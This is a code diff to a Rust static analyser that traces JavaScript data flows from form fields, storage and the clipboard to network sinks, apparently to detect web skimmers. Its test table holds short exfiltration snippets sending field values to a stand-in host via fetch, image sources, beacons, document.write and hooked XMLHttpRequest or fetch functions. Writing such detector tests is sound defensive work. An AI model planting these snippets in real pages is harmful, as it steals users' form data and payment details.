@@ -4,11 +4,13 @@
 //! parses: every variable, property and expression is a [node](graph), every assignment, argument and return an edge, and
 //! [marks](Mark) such as "value of a form field" or "absolute address" spread along the edges to [sinks](Sink). Nothing is
 //! executed and no order of statements is assumed, so a flow says what may happen. Work and memory are linear in the items:
-//! a node has 32 marks and passes each on once.
+//! a node has at most 64 marks and passes each on once.
 
+mod addresses;
 mod facts;
 mod graph;
 mod marks;
+mod private;
 mod walk;
 
 pub(crate) use facts::of_flows;
@@ -27,6 +29,13 @@ pub(crate) struct Flow {
     pub(crate) from: u32,
     /// The item of the sink.
     pub(crate) at: u32,
+}
+
+impl Flow {
+    /// Whether the data enters at most this many items from the sink.
+    fn is_within(&self, items: u32) -> bool {
+        self.from.abs_diff(self.at) <= items
+    }
 }
 
 /// The flows of a script, in the order of their sinks. `facts` are the stream's, in its order.
@@ -68,7 +77,7 @@ mod tests {
     fn values_are_followed_to_where_they_go() {
         let table = [
             ("straight", "fetch('//c.example/'+a.value)", "Field+Address>Request"),
-            ("by a variable", "var v=a.value;v='x'+v;new Image().src=v", "Field>Fetched"),
+            ("by a variable", "var v=a.value;v='x'+v;new Image().src=v", "Field+ImageElement>Fetched"),
             ("before it is assigned", "function s(){b.src=v}v=a.value", "Field>Fetched"),
             ("by a property", "this.q={};this.q.k=a.value;navigator.sendBeacon(u,this.q)", "Field>Beacon"),
             (
@@ -114,6 +123,46 @@ mod tests {
                 "element and address",
                 "var s=document.createElement('script');s.src='//c.example/a.js'",
                 "Address+ScriptElement>Fetched",
+            ),
+            ("by a pattern", "const {a,b}=f.value;i.src=b", "Field>Fetched"),
+            ("by a pattern in a loop", "for(const [k,v] of l){i.src=v}l=[a.value]", "Field>Fetched"),
+            ("by a pattern of parameters", "function s({m,n}){i.src=n}s({n:a.value})", "Field>Fetched"),
+            ("by the result of a callback", "var l=q.map(e=>e.value);i.src=l.join()", "Field>Fetched"),
+            (
+                "by the storage",
+                "localStorage.setItem('k',a.value);i.src=localStorage.getItem('k')",
+                "Field+Storage>Stored Field+Storage>Fetched",
+            ),
+            (
+                "not by another key of the storage",
+                "localStorage.setItem('k',a.value);i.src=localStorage.getItem('l')",
+                "Field+Storage>Stored Storage>Fetched",
+            ),
+            (
+                "by a chain that the browser begins",
+                "navigator.clipboard.readText().then(t=>{i.src=t})",
+                "Clipboard>Fetched",
+            ),
+            ("by all fields of a form", "new FormData(f).forEach((v,k)=>{i.src=v})", "Field>Fetched"),
+            (
+                "by a replaced function",
+                "XMLHttpRequest.prototype.send=function(d){i.src=d}",
+                "Hooked>Fetched",
+            ),
+            (
+                "by the arguments of a replaced function",
+                "window.fetch=function(){i.src=JSON.stringify(arguments)}",
+                "Json+Hooked>Fetched",
+            ),
+            (
+                "to a processor of payments",
+                "fetch('https://api.stripe.com/v1/tokens',{body:a.value})",
+                "Field>Request",
+            ),
+            (
+                "by markup",
+                "document.write('<img src=//c.example/?'+a.value+'>')",
+                "Field+Address+ImageElement>Markup",
             ),
             ("without semicolons", "var v = 1\nw = a.value\ni.src = v", ""),
             ("other variable", "var v=a.value;i.src=w", ""),
